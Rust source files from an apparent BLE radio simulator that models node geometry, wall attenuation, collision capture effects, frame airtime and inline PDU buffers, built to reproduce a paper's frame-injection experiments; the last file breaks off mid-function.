    pub fn span_enter(
        &mut self,
        kind: ble_telemetry::SpanKind,
        detail: u32,
    ) -> ble_telemetry::SpanId {
        let now = self.now();
        self.sim.span_enter(now, Some(self.node), kind, detail)
    }

    /// Closes a span opened by [`NodeCtx::span_enter`], timestamped *now*.
    #[inline]
    pub fn span_exit(&mut self, id: ble_telemetry::SpanId) {
        let now = self.now();
        self.sim.span_exit(now, id);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn access_filter_matching() {
        let aa = AccessAddress::new(0x12345678);
        assert!(AccessFilter::One(aa).matches(aa));
        assert!(!AccessFilter::One(aa).matches(AccessAddress::ADVERTISING));
        assert!(AccessFilter::Any.matches(aa));
    }

    #[test]
    fn node_config_builder() {
        let cfg = NodeConfig::new("bulb", Position::new(1.0, 2.0))
            .with_tx_power(8.0)
            .with_phy(PhyMode::Le2M);
        assert_eq!(cfg.tx_power_dbm, 8.0);
        assert_eq!(cfg.phy, PhyMode::Le2M);
        assert_eq!(cfg.label, "bulb");
    }

    #[test]
    fn node_id_display() {
        assert_eq!(NodeId(3).to_string(), "node#3");
        assert_eq!(NodeId(3).index(), 3);
    }
}
