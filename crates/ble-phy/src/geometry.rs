//! Node placement and obstacles.
//!
//! The paper's experiments vary the attacker's *position*: an equilateral
//! triangle with 2 m edges (experiments 1–2), attacker distances from 1 to
//! 10 m (experiment 3) and positions behind a wall (the wall experiment).
//! This module provides the 2-D geometry those setups are expressed in.

use std::fmt;

/// A point in the 2-D floor plan, in metres.
///
/// # Example
///
/// ```
/// use ble_phy::Position;
/// let a = Position::new(0.0, 0.0);
/// let b = Position::new(3.0, 4.0);
/// assert_eq!(a.distance_to(b), 5.0);
/// ```
#[derive(Clone, Copy, PartialEq, Debug, Default)]
pub struct Position {
    /// X coordinate in metres.
    pub x: f64,
    /// Y coordinate in metres.
    pub y: f64,
}

impl Position {
    /// The origin.
    pub const ORIGIN: Position = Position { x: 0.0, y: 0.0 };

    /// Creates a position from metre coordinates.
    pub const fn new(x: f64, y: f64) -> Self {
        Position { x, y }
    }

    /// Euclidean distance to another position, in metres.
    pub fn distance_to(self, other: Position) -> f64 {
        ((self.x - other.x).powi(2) + (self.y - other.y).powi(2)).sqrt()
    }
}

impl fmt::Display for Position {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(f, "({:.2} m, {:.2} m)", self.x, self.y)
    }
}

/// A wall segment with an RF attenuation, in dB.
///
/// A transmission whose line of sight crosses the segment loses
/// `attenuation_db` of power — the standard first-order model for indoor
/// obstruction, matching the paper's "attacker behind a wall" experiment.
///
/// # Example
///
/// ```
/// use ble_phy::{Position, Wall};
/// let wall = Wall::new(Position::new(1.0, -5.0), Position::new(1.0, 5.0), 8.0);
/// assert!(wall.blocks(Position::new(0.0, 0.0), Position::new(2.0, 0.0)));
/// assert!(!wall.blocks(Position::new(0.0, 0.0), Position::new(0.5, 1.0)));
/// ```
#[derive(Clone, Copy, PartialEq, Debug)]
pub struct Wall {
    /// One endpoint of the wall segment.
    pub a: Position,
    /// The other endpoint.
    pub b: Position,
    /// Power lost crossing the wall, in dB.
    pub attenuation_db: f64,
}

impl Wall {
    /// Creates a wall between two endpoints with the given attenuation.
    pub const fn new(a: Position, b: Position, attenuation_db: f64) -> Self {
        Wall {
            a,
            b,
            attenuation_db,
        }
    }

    /// Whether the segment from `p` to `q` crosses this wall.
    pub fn blocks(&self, p: Position, q: Position) -> bool {
        segments_intersect(p, q, self.a, self.b)
    }
}

/// Orientation of the ordered triple (a, b, c):
/// positive = counter-clockwise, negative = clockwise, zero = collinear.
fn orientation(a: Position, b: Position, c: Position) -> f64 {
    (b.x - a.x) * (c.y - a.y) - (b.y - a.y) * (c.x - a.x)
}

fn on_segment(a: Position, b: Position, p: Position) -> bool {
    p.x >= a.x.min(b.x) - 1e-12
        && p.x <= a.x.max(b.x) + 1e-12
        && p.y >= a.y.min(b.y) - 1e-12
        && p.y <= a.y.max(b.y) + 1e-12
}

/// Proper segment-intersection test including collinear-overlap cases.
fn segments_intersect(p1: Position, p2: Position, q1: Position, q2: Position) -> bool {
    let o1 = orientation(p1, p2, q1);
    let o2 = orientation(p1, p2, q2);
    let o3 = orientation(q1, q2, p1);
    let o4 = orientation(q1, q2, p2);

    if (o1 * o2 < 0.0) && (o3 * o4 < 0.0) {
        return true;
    }
    // Collinear touching cases.
    (o1.abs() < 1e-12 && on_segment(p1, p2, q1))
        || (o2.abs() < 1e-12 && on_segment(p1, p2, q2))
        || (o3.abs() < 1e-12 && on_segment(q1, q2, p1))
        || (o4.abs() < 1e-12 && on_segment(q1, q2, p2))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn distance_basics() {
        assert_eq!(Position::ORIGIN.distance_to(Position::new(0.0, 2.0)), 2.0);
        let d = Position::new(1.0, 1.0).distance_to(Position::new(2.0, 2.0));
        assert!((d - std::f64::consts::SQRT_2).abs() < 1e-12);
    }

    #[test]
    fn crossing_wall_blocks() {
        let wall = Wall::new(Position::new(0.0, -1.0), Position::new(0.0, 1.0), 8.0);
        assert!(wall.blocks(Position::new(-1.0, 0.0), Position::new(1.0, 0.0)));
    }

    #[test]
    fn parallel_paths_do_not_block() {
        let wall = Wall::new(Position::new(0.0, -1.0), Position::new(0.0, 1.0), 8.0);
        assert!(!wall.blocks(Position::new(1.0, -1.0), Position::new(1.0, 1.0)));
        assert!(!wall.blocks(Position::new(-2.0, 0.0), Position::new(-1.0, 0.0)));
    }

    #[test]
    fn path_ending_short_of_wall_does_not_block() {
        let wall = Wall::new(Position::new(5.0, -1.0), Position::new(5.0, 1.0), 8.0);
        assert!(!wall.blocks(Position::ORIGIN, Position::new(4.9, 0.0)));
        assert!(wall.blocks(Position::ORIGIN, Position::new(5.1, 0.0)));
    }

    #[test]
    fn touching_endpoint_counts_as_blocked() {
        let wall = Wall::new(Position::new(0.0, 0.0), Position::new(2.0, 0.0), 8.0);
        assert!(wall.blocks(Position::new(1.0, 0.0), Position::new(1.0, 3.0)));
    }

    #[test]
    fn collinear_disjoint_segments_do_not_intersect() {
        let wall = Wall::new(Position::new(0.0, 0.0), Position::new(1.0, 0.0), 8.0);
        assert!(!wall.blocks(Position::new(2.0, 0.0), Position::new(3.0, 0.0)));
    }

    #[test]
    fn display_position() {
        assert_eq!(format!("{}", Position::new(1.0, 2.5)), "(1.00 m, 2.50 m)");
    }
}
