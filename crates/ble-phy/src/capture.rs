//! Collision capture-effect model.
//!
//! When two GFSK frames collide at a receiver, the stronger one often
//! survives — the FM *capture effect*. The paper leans on exactly this
//! physics (§V-D, situation *b*): an injected frame that collides with the
//! legitimate Master frame "might not result in a corruption when the power
//! of the injected signal is by far superior", and at comparable powers the
//! outcome depends on "the phase difference between the injected and
//! legitimate signals".
//!
//! We model the survival probability of the *locked* (first-arriving) frame
//! as a logistic function of the signal-to-interference ratio, with a soft
//! penalty for longer overlaps (more colliding bits, more chances for the
//! demodulator to slip) and hard guarantees outside the ambiguous band.

/// Parameters of the capture-effect model.
///
/// # Example
///
/// ```
/// use ble_phy::CaptureModel;
/// let m = CaptureModel::default();
/// // Strong injected signal: guaranteed survival.
/// assert_eq!(m.survival_probability(12.0, 80.0), 1.0);
/// // Heavily overpowered: guaranteed corruption.
/// assert_eq!(m.survival_probability(-10.0, 80.0), 0.0);
/// // Comparable powers: phase luck.
/// let p = m.survival_probability(0.0, 80.0);
/// assert!(p > 0.05 && p < 0.75);
/// ```
#[derive(Debug, Clone, PartialEq)]
pub struct CaptureModel {
    /// SIR (dB) at or above which a colliding frame always survives.
    pub sure_capture_db: f64,
    /// SIR (dB) at or below which a colliding frame is always corrupted.
    pub sure_loss_db: f64,
    /// Logistic midpoint (dB) at the reference overlap length.
    pub midpoint_db: f64,
    /// Logistic slope parameter (dB per unit of log-odds).
    pub slope_db: f64,
    /// Reference overlap duration in microseconds.
    pub overlap_ref_us: f64,
    /// Midpoint shift (dB) per doubling of overlap beyond the reference.
    pub overlap_penalty_db: f64,
    /// A frame arriving while the receiver is locked *steals the lock* if
    /// it is stronger than the locked signal by at least this many dB —
    /// receiver re-synchronisation on a dominant co-channel signal.
    pub relock_threshold_db: f64,
}

impl Default for CaptureModel {
    /// Values calibrated so the simulated sensitivity experiments reproduce
    /// the paper's Figure 9 shapes (see `EXPERIMENTS.md`).
    fn default() -> Self {
        CaptureModel {
            sure_capture_db: 10.0,
            sure_loss_db: -8.0,
            midpoint_db: 0.5,
            slope_db: 2.2,
            overlap_ref_us: 40.0,
            overlap_penalty_db: 1.2,
            relock_threshold_db: 10.0,
        }
    }
}

impl CaptureModel {
    /// A deterministic model: the locked frame survives a collision iff its
    /// SIR strictly exceeds `threshold_db`. Useful for exact tests.
    pub fn hard_threshold(threshold_db: f64) -> Self {
        CaptureModel {
            sure_capture_db: threshold_db,
            sure_loss_db: threshold_db,
            midpoint_db: threshold_db,
            slope_db: 1e-9,
            overlap_ref_us: 40.0,
            overlap_penalty_db: 0.0,
            // Deterministic tests keep strict first-lock-wins semantics.
            relock_threshold_db: f64::INFINITY,
        }
    }

    /// Probability that the locked frame survives a collision, given the
    /// signal-to-interference ratio (dB) and the overlap duration (µs).
    ///
    /// Zero or negative overlap means no collision: survival is certain.
    pub fn survival_probability(&self, sir_db: f64, overlap_us: f64) -> f64 {
        if overlap_us <= 0.0 {
            return 1.0;
        }
        if sir_db >= self.sure_capture_db {
            return 1.0;
        }
        if sir_db <= self.sure_loss_db {
            return 0.0;
        }
        let overlap_factor = (overlap_us / self.overlap_ref_us).max(1.0).log2();
        let midpoint = self.midpoint_db + self.overlap_penalty_db * overlap_factor;
        1.0 / (1.0 + (-(sir_db - midpoint) / self.slope_db).exp())
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn no_overlap_always_survives() {
        let m = CaptureModel::default();
        assert_eq!(m.survival_probability(-30.0, 0.0), 1.0);
        assert_eq!(m.survival_probability(-30.0, -5.0), 1.0);
    }

    #[test]
    fn extremes_are_deterministic() {
        let m = CaptureModel::default();
        assert_eq!(m.survival_probability(10.0, 100.0), 1.0);
        assert_eq!(m.survival_probability(15.0, 100.0), 1.0);
        assert_eq!(m.survival_probability(-8.0, 100.0), 0.0);
        assert_eq!(m.survival_probability(-20.0, 100.0), 0.0);
    }

    #[test]
    fn survival_is_monotone_in_sir() {
        let m = CaptureModel::default();
        let mut last = 0.0;
        for sir10 in -80..100 {
            let p = m.survival_probability(sir10 as f64 / 10.0, 80.0);
            assert!(p >= last - 1e-12, "non-monotone at {}", sir10);
            last = p;
        }
    }

    #[test]
    fn longer_overlap_hurts() {
        let m = CaptureModel::default();
        let short = m.survival_probability(2.0, 40.0);
        let long = m.survival_probability(2.0, 160.0);
        assert!(short > long, "{short} vs {long}");
    }

    #[test]
    fn overlap_below_reference_is_not_a_bonus() {
        let m = CaptureModel::default();
        let at_ref = m.survival_probability(2.0, 40.0);
        let below = m.survival_probability(2.0, 10.0);
        assert!((at_ref - below).abs() < 1e-12);
    }

    #[test]
    fn hard_threshold_behaves_like_step() {
        let m = CaptureModel::hard_threshold(3.0);
        assert_eq!(m.survival_probability(3.1, 80.0), 1.0);
        assert_eq!(m.survival_probability(2.9, 80.0), 0.0);
    }

    #[test]
    fn probabilities_are_valid() {
        let m = CaptureModel::default();
        for sir in [-7.9, -4.0, 0.0, 3.0, 9.9] {
            for overlap in [1.0, 40.0, 400.0] {
                let p = m.survival_probability(sir, overlap);
                assert!((0.0..=1.0).contains(&p), "p={p} at sir={sir}");
            }
        }
    }
}
