//! Over-the-air frame representations.

use ble_invariants::invariant_window;
use simkit::{Duration, Instant};

use crate::access_address::AccessAddress;
use crate::channel::Channel;
use crate::pdu::Pdu;
use crate::phy_mode::PhyMode;

/// Length of the preamble on the LE 1M PHY, in bytes.
pub const PREAMBLE_LEN: usize = 1;
/// Length of the access address field, in bytes.
pub const ACCESS_ADDRESS_LEN: usize = 4;

/// A frame handed to the radio for transmission: access address, raw PDU
/// bytes and the CRC initialisation value the CRC is computed with.
///
/// The preamble, whitening and CRC bytes are appended/applied by the
/// (simulated) radio hardware, mirroring how the nRF52840 radio peripheral
/// used by the paper operates.
///
/// # Example
///
/// ```
/// use ble_phy::{AccessAddress, PhyMode, RawFrame};
/// let frame = RawFrame::new(AccessAddress::new(0x50C233A1), vec![0x02, 0x07, 1, 2, 3, 4, 5, 6, 7], 0xABCDEF);
/// // 1 preamble + 4 AA + 9 PDU + 3 CRC = 17 bytes = 136 µs on LE 1M.
/// assert_eq!(frame.airtime(PhyMode::Le1M).as_micros(), 136);
/// ```
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct RawFrame {
    /// The access address the frame is transmitted with.
    pub access_address: AccessAddress,
    /// The unwhitened PDU bytes (header + payload), stored inline — frames
    /// move and clone without touching the heap.
    pub pdu: Pdu,
    /// CRC initialisation value used for this frame's CRC.
    pub crc_init: u32,
}

impl RawFrame {
    /// Creates a frame. `pdu` accepts anything convertible to a [`Pdu`]
    /// (`Pdu`, `Vec<u8>`, byte slices, arrays).
    pub fn new(access_address: AccessAddress, pdu: impl Into<Pdu>, crc_init: u32) -> Self {
        RawFrame {
            access_address,
            pdu: pdu.into(),
            crc_init,
        }
    }

    /// Total over-the-air length in bytes, including preamble, access
    /// address and CRC.
    pub fn air_bytes(&self, phy: PhyMode) -> usize {
        phy.preamble_len() + ACCESS_ADDRESS_LEN + self.pdu.len() + crate::crc::CRC_LEN
    }

    /// Time this frame occupies the channel.
    pub fn airtime(&self, phy: PhyMode) -> Duration {
        phy.airtime_for_total_bytes(self.air_bytes(phy))
    }
}

/// A frame delivered by the radio to its listener after reception.
#[derive(Debug, Clone, PartialEq)]
pub struct ReceivedFrame {
    /// Channel the frame was received on.
    pub channel: Channel,
    /// Access address the frame was synchronised on.
    pub access_address: AccessAddress,
    /// The PDU bytes as decoded (possibly corrupted by a collision),
    /// stored inline — delivery to each receiver copies on the stack.
    pub pdu: Pdu,
    /// Whether the CRC check passed (correct `CRCInit` and no corruption).
    pub crc_ok: bool,
    /// Received signal strength in dBm.
    pub rssi_dbm: f64,
    /// When the frame's leading edge (preamble start) reached this radio.
    pub start: Instant,
    /// When the frame ended at this radio.
    pub end: Instant,
}

impl ReceivedFrame {
    /// Airtime of the frame as observed (end − start).
    ///
    /// A frame whose timestamps are inverted trips the window invariant in
    /// debug builds; release builds report a zero duration rather than
    /// panicking in the radio path.
    pub fn duration(&self) -> Duration {
        invariant_window!(self.start, self.end, "received frame timestamps");
        self.end
            .checked_duration_since(self.start)
            .unwrap_or(Duration::ZERO)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn paper_write_request_airtime() {
        // Paper §VII-A: 14-byte payload + 2-byte data header = 16-byte PDU;
        // 1 + 4 + 16 + 3 = 24 bytes... the paper counts 22 bytes over the
        // air (176 µs) by omitting preamble+CRC bookkeeping differences; we
        // verify our own accounting is self-consistent here.
        let frame = RawFrame::new(AccessAddress::new(0x50C233A1), vec![0u8; 16], 0);
        assert_eq!(frame.air_bytes(PhyMode::Le1M), 24);
        assert_eq!(frame.airtime(PhyMode::Le1M).as_micros(), 192);
    }

    #[test]
    fn empty_pdu_airtime() {
        let frame = RawFrame::new(AccessAddress::ADVERTISING, vec![], 0x555555);
        assert_eq!(frame.airtime(PhyMode::Le1M).as_micros(), 64);
    }

    #[test]
    fn received_frame_duration() {
        let rx = ReceivedFrame {
            channel: Channel::new(0).unwrap(),
            access_address: AccessAddress::ADVERTISING,
            pdu: vec![1, 2, 3].into(),
            crc_ok: true,
            rssi_dbm: -60.0,
            start: Instant::from_micros(100),
            end: Instant::from_micros(180),
        };
        assert_eq!(rx.duration().as_micros(), 80);
    }
}
