//! Fixed-capacity inline PDU buffer.
//!
//! The frame pipeline used to carry PDU bytes in a `Vec<u8>`, which put a
//! heap allocation (and a clone per receiver) on every simulated frame.
//! [`Pdu`] replaces it with a stack-resident buffer sized for the largest
//! PDU the Link Layer can produce: a 2-byte data header plus a 255-byte
//! payload. A `Pdu` moves and clones by `memcpy`, so frame delivery in
//! [`crate::World`] touches the allocator zero times in steady state.
//!
//! `Pdu` is deliberately *not* `Copy`: at 260 bytes an accidental implicit
//! copy in a loop is exactly the kind of cost this type exists to make
//! visible. Cloning is explicit and cheap.

use std::fmt;
use std::ops::{Deref, DerefMut};

use ble_invariants::invariant;

/// Maximum PDU length in bytes: 2-byte data header + 255-byte payload.
///
/// Advertising PDUs (2-byte header + ≤37-byte payload) fit with room to
/// spare.
pub const PDU_MAX_LEN: usize = 257;

/// Error returned when bytes would not fit into a [`Pdu`].
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct PduCapacityError {
    /// Total length the operation would have produced.
    pub attempted: usize,
    /// The fixed capacity, [`PDU_MAX_LEN`].
    pub capacity: usize,
}

impl fmt::Display for PduCapacityError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        write!(
            f,
            "PDU of {} bytes exceeds the {}-byte capacity",
            self.attempted, self.capacity
        )
    }
}

impl std::error::Error for PduCapacityError {}

/// A fixed-capacity, stack-resident PDU byte buffer.
///
/// Behaves like a `Vec<u8>` capped at [`PDU_MAX_LEN`]: it derefs to `[u8]`,
/// grows via [`Pdu::try_push`] / [`Pdu::try_extend_from_slice`] (typed
/// errors instead of panics), and compares equal to slices and `Vec<u8>` so
/// call sites and tests read unchanged.
///
/// # Example
///
/// ```
/// use ble_phy::{Pdu, PDU_MAX_LEN};
/// let mut pdu = Pdu::new();
/// pdu.try_push(0x02).unwrap();
/// pdu.try_extend_from_slice(&[0x07, 0xAA]).unwrap();
/// assert_eq!(pdu.len(), 3);
/// assert_eq!(&pdu[..], &[0x02, 0x07, 0xAA]);
/// assert!(Pdu::from_slice(&[0u8; PDU_MAX_LEN + 1]).is_err());
/// ```
#[derive(Clone)]
pub struct Pdu {
    /// Valid prefix length of `buf`; always ≤ [`PDU_MAX_LEN`].
    len: u16,
    buf: [u8; PDU_MAX_LEN],
}

impl Pdu {
    /// Creates an empty PDU buffer.
    pub const fn new() -> Self {
        Pdu {
            len: 0,
            buf: [0; PDU_MAX_LEN],
        }
    }

    /// Creates a PDU from `bytes`, or a typed error if they exceed
    /// [`PDU_MAX_LEN`].
    pub fn from_slice(bytes: &[u8]) -> Result<Self, PduCapacityError> {
        let mut pdu = Pdu::new();
        pdu.try_extend_from_slice(bytes)?;
        Ok(pdu)
    }

    /// Number of valid bytes.
    pub fn len(&self) -> usize {
        usize::from(self.len)
    }

    /// Whether the buffer holds no bytes.
    pub fn is_empty(&self) -> bool {
        self.len == 0
    }

    /// The fixed capacity, [`PDU_MAX_LEN`].
    pub const fn capacity(&self) -> usize {
        PDU_MAX_LEN
    }

    /// The valid bytes as a slice.
    pub fn as_slice(&self) -> &[u8] {
        self.buf.get(..self.len()).unwrap_or(&[])
    }

    /// The valid bytes as a mutable slice.
    pub fn as_mut_slice(&mut self) -> &mut [u8] {
        let len = self.len();
        self.buf.get_mut(..len).unwrap_or(&mut [])
    }

    /// Appends one byte, or reports the capacity overflow.
    pub fn try_push(&mut self, byte: u8) -> Result<(), PduCapacityError> {
        let len = self.len();
        let Some(slot) = self.buf.get_mut(len) else {
            return Err(PduCapacityError {
                attempted: self.len().saturating_add(1),
                capacity: PDU_MAX_LEN,
            });
        };
        *slot = byte;
        self.len += 1;
        Ok(())
    }

    /// Appends `bytes`, or reports the capacity overflow (in which case the
    /// buffer is unchanged).
    pub fn try_extend_from_slice(&mut self, bytes: &[u8]) -> Result<(), PduCapacityError> {
        let start = self.len();
        let end = start.saturating_add(bytes.len());
        let Some(dst) = self.buf.get_mut(start..end) else {
            return Err(PduCapacityError {
                attempted: end,
                capacity: PDU_MAX_LEN,
            });
        };
        dst.copy_from_slice(bytes);
        // end ≤ PDU_MAX_LEN = 257 here, so the cast is lossless.
        self.len = u16::try_from(end).unwrap_or(0);
        Ok(())
    }

    /// Empties the buffer.
    pub fn clear(&mut self) {
        self.len = 0;
    }

    /// Shortens the buffer to `len` bytes; no-op when already shorter.
    pub fn truncate(&mut self, len: usize) {
        let len = u16::try_from(len).unwrap_or(u16::MAX);
        if len < self.len {
            self.len = len;
        }
    }
}

impl Default for Pdu {
    fn default() -> Self {
        Pdu::new()
    }
}

impl Deref for Pdu {
    type Target = [u8];
    fn deref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl DerefMut for Pdu {
    fn deref_mut(&mut self) -> &mut [u8] {
        self.as_mut_slice()
    }
}

impl AsRef<[u8]> for Pdu {
    fn as_ref(&self) -> &[u8] {
        self.as_slice()
    }
}

impl fmt::Debug for Pdu {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.debug_list().entries(self.as_slice()).finish()
    }
}

impl PartialEq for Pdu {
    fn eq(&self, other: &Self) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl Eq for Pdu {}

impl std::hash::Hash for Pdu {
    fn hash<H: std::hash::Hasher>(&self, state: &mut H) {
        self.as_slice().hash(state);
    }
}

/// Infallible truncating conversion for construction ergonomics
/// ([`crate::RawFrame::new`] takes `impl Into<Pdu>`). Oversized input trips
/// the invariant in debug builds; release builds truncate rather than
/// panicking in the radio path. Every Link-Layer encoder caps payloads at
/// 255 bytes, so the truncation arm is unreachable in correct programs —
/// use [`Pdu::from_slice`] where the length is externally controlled.
impl From<&[u8]> for Pdu {
    fn from(bytes: &[u8]) -> Self {
        invariant!(
            bytes.len() <= PDU_MAX_LEN,
            "pdu-capacity",
            "PDU of {} bytes exceeds the {PDU_MAX_LEN}-byte capacity",
            bytes.len()
        );
        let take = bytes.len().min(PDU_MAX_LEN);
        let mut pdu = Pdu::new();
        let src = bytes.get(..take).unwrap_or(&[]);
        // Cannot fail: `take` ≤ capacity.
        let _ = pdu.try_extend_from_slice(src);
        pdu
    }
}

impl From<Vec<u8>> for Pdu {
    fn from(bytes: Vec<u8>) -> Self {
        Pdu::from(bytes.as_slice())
    }
}

impl From<&Vec<u8>> for Pdu {
    fn from(bytes: &Vec<u8>) -> Self {
        Pdu::from(bytes.as_slice())
    }
}

impl<const N: usize> From<[u8; N]> for Pdu {
    fn from(bytes: [u8; N]) -> Self {
        Pdu::from(bytes.as_slice())
    }
}

impl<const N: usize> From<&[u8; N]> for Pdu {
    fn from(bytes: &[u8; N]) -> Self {
        Pdu::from(bytes.as_slice())
    }
}

impl PartialEq<[u8]> for Pdu {
    fn eq(&self, other: &[u8]) -> bool {
        self.as_slice() == other
    }
}

impl PartialEq<&[u8]> for Pdu {
    fn eq(&self, other: &&[u8]) -> bool {
        self.as_slice() == *other
    }
}

impl<const N: usize> PartialEq<[u8; N]> for Pdu {
    fn eq(&self, other: &[u8; N]) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl PartialEq<Vec<u8>> for Pdu {
    fn eq(&self, other: &Vec<u8>) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl PartialEq<Pdu> for Vec<u8> {
    fn eq(&self, other: &Pdu) -> bool {
        self.as_slice() == other.as_slice()
    }
}

impl PartialEq<Pdu> for [u8] {
    fn eq(&self, other: &Pdu) -> bool {
        self == other.as_slice()
    }
}

impl<'a> IntoIterator for &'a Pdu {
    type Item = &'a u8;
    type IntoIter = std::slice::Iter<'a, u8>;
    fn into_iter(self) -> Self::IntoIter {
        self.as_slice().iter()
    }
}

impl FromIterator<u8> for Pdu {
    /// Collects at most [`PDU_MAX_LEN`] bytes; the remainder is dropped
    /// (same truncating contract as `From<&[u8]>`).
    fn from_iter<I: IntoIterator<Item = u8>>(iter: I) -> Self {
        let mut pdu = Pdu::new();
        for byte in iter {
            if pdu.try_push(byte).is_err() {
                invariant!(false, "pdu-capacity", "PDU iterator exceeds capacity");
                break;
            }
        }
        pdu
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn starts_empty() {
        let pdu = Pdu::new();
        assert!(pdu.is_empty());
        assert_eq!(pdu.len(), 0);
        assert_eq!(pdu.as_slice(), &[] as &[u8]);
        assert_eq!(pdu.capacity(), PDU_MAX_LEN);
    }

    #[test]
    fn push_and_extend() {
        let mut pdu = Pdu::new();
        pdu.try_push(1).unwrap();
        pdu.try_extend_from_slice(&[2, 3, 4]).unwrap();
        assert_eq!(pdu, vec![1, 2, 3, 4]);
        assert_eq!(pdu.len(), 4);
    }

    #[test]
    fn push_fails_at_capacity() {
        let mut pdu = Pdu::from_slice(&[0u8; PDU_MAX_LEN]).unwrap();
        let err = pdu.try_push(1).unwrap_err();
        assert_eq!(err.attempted, PDU_MAX_LEN + 1);
        assert_eq!(err.capacity, PDU_MAX_LEN);
        assert_eq!(pdu.len(), PDU_MAX_LEN, "failed push must not change len");
    }

    #[test]
    fn extend_overflow_leaves_buffer_unchanged() {
        let mut pdu = Pdu::from_slice(&[7u8; 250]).unwrap();
        let err = pdu.try_extend_from_slice(&[0u8; 8]).unwrap_err();
        assert_eq!(err.attempted, 258);
        assert_eq!(pdu.len(), 250);
        assert!(pdu.iter().all(|&b| b == 7));
    }

    #[test]
    fn from_slice_round_trips() {
        let bytes: Vec<u8> = (0..=255u8).collect();
        let pdu = Pdu::from_slice(&bytes).unwrap();
        assert_eq!(pdu, bytes);
        assert_eq!(pdu.to_vec(), bytes);
    }

    #[test]
    fn from_slice_rejects_oversize() {
        let err = Pdu::from_slice(&[0u8; PDU_MAX_LEN + 1]).unwrap_err();
        assert_eq!(err.attempted, PDU_MAX_LEN + 1);
        assert_eq!(
            err.to_string(),
            "PDU of 258 bytes exceeds the 257-byte capacity"
        );
    }

    #[test]
    fn deref_and_index() {
        let pdu = Pdu::from(vec![9, 8, 7]);
        assert_eq!(pdu[0], 9);
        assert_eq!(&pdu[1..], &[8, 7]);
        assert_eq!(pdu.iter().copied().sum::<u8>(), 24);
    }

    #[test]
    fn deref_mut_allows_in_place_edits() {
        let mut pdu = Pdu::from(vec![0u8; 4]);
        pdu[2] ^= 0xFF;
        assert_eq!(pdu, vec![0, 0, 0xFF, 0]);
    }

    #[test]
    fn equality_ignores_garbage_beyond_len() {
        let mut a = Pdu::from(vec![1, 2, 3, 4]);
        a.truncate(2);
        let b = Pdu::from(vec![1, 2]);
        assert_eq!(a, b);
        assert_eq!(a, vec![1, 2]);
        assert_eq!(a, [1, 2]);
        assert_eq!(vec![1, 2], a);
    }

    #[test]
    fn clear_and_truncate() {
        let mut pdu = Pdu::from(vec![1, 2, 3]);
        pdu.truncate(10); // no-op
        assert_eq!(pdu.len(), 3);
        pdu.truncate(1);
        assert_eq!(pdu, vec![1]);
        pdu.clear();
        assert!(pdu.is_empty());
    }

    #[test]
    fn clone_is_deep_and_independent() {
        let mut a = Pdu::from(vec![5; 10]);
        let b = a.clone();
        a[0] = 0;
        assert_eq!(b[0], 5);
        assert_ne!(a, b);
    }

    #[test]
    fn from_array_and_iterator() {
        assert_eq!(Pdu::from([1u8, 2]), vec![1, 2]);
        assert_eq!(Pdu::from(&[3u8, 4]), vec![3, 4]);
        let collected: Pdu = (0..5u8).collect();
        assert_eq!(collected, vec![0, 1, 2, 3, 4]);
    }

    #[test]
    fn hash_matches_equality() {
        use std::collections::hash_map::DefaultHasher;
        use std::hash::{Hash, Hasher};
        let hash = |p: &Pdu| {
            let mut h = DefaultHasher::new();
            p.hash(&mut h);
            h.finish()
        };
        let mut a = Pdu::from(vec![1, 2, 3, 9]);
        a.truncate(3);
        let b = Pdu::from(vec![1, 2, 3]);
        assert_eq!(hash(&a), hash(&b));
    }

    #[test]
    #[cfg(not(debug_assertions))]
    fn release_from_oversized_truncates() {
        let pdu = Pdu::from(vec![1u8; PDU_MAX_LEN + 40]);
        assert_eq!(pdu.len(), PDU_MAX_LEN);
    }
}
