//! PHY-side interpreter for [`simkit::FaultPlan`]s.
//!
//! [`FaultState`] is the medium's resident copy of an installed plan: it
//! owns the plan, a **private** RNG seeded from [`FaultPlan::seed`], the
//! label→node resolution for drift excursions, and the pre-computed
//! episode-boundary markers that the event queue replays for telemetry.
//!
//! Determinism contract (see the `simkit::fault` module docs): the fault
//! layer never draws from the world or node RNG streams, and when no plan
//! is installed every query here is a single branch on [`FaultState::enabled`]
//! — no draws, no allocation, no scheduled events.

use ble_telemetry::{FaultKind, TelemetryEvent};
use simkit::{Duration, FaultPlan, Instant, SimRng};

use crate::radio::NodeId;

/// One pre-computed episode boundary: when popped off the event queue the
/// medium emits `event` attributed to `node`.
#[derive(Debug, Clone)]
pub(crate) struct FaultMarker {
    pub(crate) at: Instant,
    pub(crate) node: Option<NodeId>,
    pub(crate) event: TelemetryEvent,
}

/// The installed fault plan plus its private RNG and resolved schedule.
#[derive(Debug)]
pub(crate) struct FaultState {
    plan: FaultPlan,
    rng: SimRng,
    /// Drift excursions resolved to node ids: `(node, index into plan.drift)`.
    drift_targets: Vec<(NodeId, usize)>,
    markers: Vec<FaultMarker>,
    enabled: bool,
}

/// Telemetry markers per burst train are capped so a degenerate plan (e.g.
/// microsecond period over an hour of simulated time) cannot flood the
/// event queue; the impairment itself is unaffected because burst overlap
/// is evaluated arithmetically per frame, not from the markers.
const MAX_MARKERS_PER_BURST: u32 = 4_096;

impl FaultState {
    /// The no-plan state: every hot-path query is one branch.
    pub(crate) fn disabled() -> FaultState {
        FaultState {
            plan: FaultPlan::default(),
            rng: SimRng::seed_from(0),
            drift_targets: Vec::new(),
            markers: Vec::new(),
            enabled: false,
        }
    }

    /// Builds the resident state for `plan`. `resolve` maps a node label to
    /// its id (drift excursions naming unknown labels are ignored).
    pub(crate) fn install(plan: FaultPlan, resolve: impl Fn(&str) -> Option<NodeId>) -> FaultState {
        let enabled = !plan.is_empty();
        let rng = SimRng::seed_from(plan.seed);
        let mut drift_targets = Vec::new();
